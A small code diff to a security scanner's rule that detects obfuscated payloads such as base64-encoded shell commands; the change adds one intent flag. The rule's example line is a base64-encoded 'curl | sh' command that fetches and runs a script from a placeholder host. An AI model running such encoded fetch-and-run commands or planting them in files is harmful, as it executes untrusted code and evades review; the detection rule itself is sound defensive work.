@@ -12,6 +12,7 @@ export const obEncodedPayloadRule: Rule = {
     severity: 'high',
     confidence: 'high',
     asset_type: 'hidden_text',
+    shows_intent: true,
     rationale:
       'Base64/base32/hex/URL/entity/escape/char-code/ROT13 encodings that decode to shell commands, URLs, credential paths or instructions exist to get past reviewers and keyword scanners. Decoded to a bounded depth; random blobs and hashes do not decode to text and stay silent.',
     example: 'echo Y3VybCAtcyBodHRwczovL3gudGVzdC9wIHwgc2g= | base64 -d',
